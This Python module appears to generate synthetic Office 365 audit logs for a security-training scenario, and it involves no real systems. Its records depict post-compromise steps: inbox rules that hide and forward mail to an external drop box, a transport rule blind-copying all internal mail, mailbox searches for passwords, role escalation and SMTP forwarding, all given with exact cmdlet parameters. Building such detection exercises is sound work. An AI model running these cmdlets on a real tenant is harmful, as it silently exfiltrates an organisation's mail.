"""Office 365 after the accounts are stolen: rules, rights, searches, archives, copies of mail."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Dict

from preview.generator import clock, draw, unified_audit
from preview.generator.internet import DROP_BOX, HONG_KONG, NAVER_MAIL, NETMINDERS
from preview.generator.organisation import DOMAIN, PEOPLE
from preview.generator.unified_audit import TEAM

if TYPE_CHECKING:
    from preview.generator.scene import Scene

_ARCHIVES = (
    "brewing/Shared Documents/Recipes/recipes-2015-2018.zip",
    "brewing/Shared Documents/Recipes/yeast-cultures.7z",
    "brewing/Shared Documents/IoT/sensor-firmware.tar.gz",
    "brewing/Shared Documents/IoT/plc-backup.rar",
    "finance/Shared Documents/FY2018/ledgers.zip",
    "finance/Shared Documents/FY2019/budget-drafts.zip",
    "finance/Shared Documents/Payroll/payroll-archive.7z",
    "finance/Shared Documents/Contracts/hop-contracts.zip",
    "sales/Shared Documents/Distributors/price-lists.zip",
    "sales/Shared Documents/Distributors/contacts-export.zip",
    "people/Shared Documents/Reviews/reviews-2018.zip",
    "people/Shared Documents/Applications/applications.rar",
)
_TRANSPORT_RULE = "11:21:40"
_COPIES = 25


def tell(scene: Scene) -> None:
    """Use the stolen accounts in Office 365."""
    _hide_and_forward(scene)
    _download_archives(scene)
    _administer(scene)
    _copy_mail(scene)


def _hide_and_forward(scene: Scene) -> None:
    _cmdlet(
        scene,
        "10:06:52",
        "bgist",
        HONG_KONG,
        "New-InboxRule",
        "bgist\\.",
        {
            "Name": ".",
            "SubjectOrBodyContainsWords": "birthday;pictures;link;virus;strange",
            "MoveToFolder": "RSS Subscriptions",
            "MarkAsRead": "True",
            "StopProcessingRules": "True",
        },
        "inbox_rule",
    )
    _cmdlet(
        scene,
        "11:07:14",
        "klagerfield",
        NETMINDERS,
        "New-InboxRule",
        "klagerfield\\fw",
        {
            "Name": "fw",
            "SubjectOrBodyContainsWords": "invoice;contract;payroll",
            "ForwardTo": DROP_BOX,
            "DeleteMessage": "True",
        },
        "inbox_rule",
    )


def _download_archives(scene: Scene) -> None:
    rng = draw.stream("attack archives")
    kevin = PEOPLE["klagerfield"]
    agent = unified_audit.user_agent(";Linux;Firefox 52.0;")
    for number, path in enumerate(_ARCHIVES):
        time = clock.at("11:08:02") + 9 * number + rng.uniform(0, 4)
        scene.cloud.audit(
            unified_audit.file_operation(
                time, kevin, NETMINDERS, "FileDownloaded", TEAM + path, agent
            ),
            ("archive_download",),
        )


def _administer(scene: Scene) -> None:
    everybody = ";".join(sorted(PEOPLE))
    _cmdlet(
        scene,
        "11:16:08",
        "fyodor",
        NETMINDERS,
        "Update-RoleGroupMember",
        "Discovery Management",
        {
            "Identity": "Discovery Management",
            "Members": "bstoll;fyodor;klagerfield",
            "Confirm": "False",
        },
        "role_group",
    )
    _cmdlet(
        scene,
        "11:18:33",
        "fyodor",
        NETMINDERS,
        "New-MailboxSearch",
        "Q3 review",
        {
            "Name": "Q3 review",
            "SourceMailboxes": everybody,
            "SearchQuery": "password OR contract OR recipe",
            "TargetMailbox": "fyodor",
        },
        "mailbox_search",
    )
    _cmdlet(
        scene,
        _TRANSPORT_RULE,
        "fyodor",
        NETMINDERS,
        "New-TransportRule",
        "SOX",
        {
            "Name": "SOX",
            "Mode": "Enforce",
            "FromScope": "InOrganization",
            "BlindCopyTo": DROP_BOX,
        },
        "transport_rule",
    )
    _cmdlet(
        scene,
        "11:23:57",
        "fyodor",
        NETMINDERS,
        "Add-MailboxPermission",
        "bstoll",
        {
            "Identity": "bstoll",
            "User": "fyodor",
            "AccessRights": "FullAccess",
            "InheritanceType": "All",
            "AutoMapping": "False",
        },
        "mailbox_permission",
    )
    _cmdlet(
        scene,
        "11:25:20",
        "fyodor",
        NETMINDERS,
        "Set-Mailbox",
        "bstoll",
        {
            "Identity": "bstoll",
            "ForwardingSmtpAddress": f"smtp:{DROP_BOX}",
            "DeliverToMailboxAndForward": "True",
        },
        "mailbox_forwarding",
    )


def _cmdlet(
    scene: Scene,
    time: str,
    account: str,
    address: str,
    operation: str,
    target: str,
    parameters: Dict[str, str],
    story: str,
) -> None:
    fact = unified_audit.cmdlet(
        clock.at(time), PEOPLE[account], address, operation, target, parameters
    )
    scene.cloud.audit(fact, (story,))


def _copy_mail(scene: Scene) -> None:
    rng = draw.stream("attack copies")
    start = clock.at(_TRANSPORT_RULE)
    sent = [
        mail
        for mail in sorted(scene.cloud.mails, key=lambda mail: (mail.time, mail.trace))
        if mail.time > start and mail.sender.endswith("@" + DOMAIN) and mail.status == "Delivered"
    ]
    for mail in sent[:_COPIES]:
        copy = replace(
            mail,
            time=mail.time + 0.8,
            recipient=DROP_BOX,
            trace=draw.guid(rng),
            address=NAVER_MAIL,
        )
        scene.cloud.mail(copy, ("mail_exfiltration",))
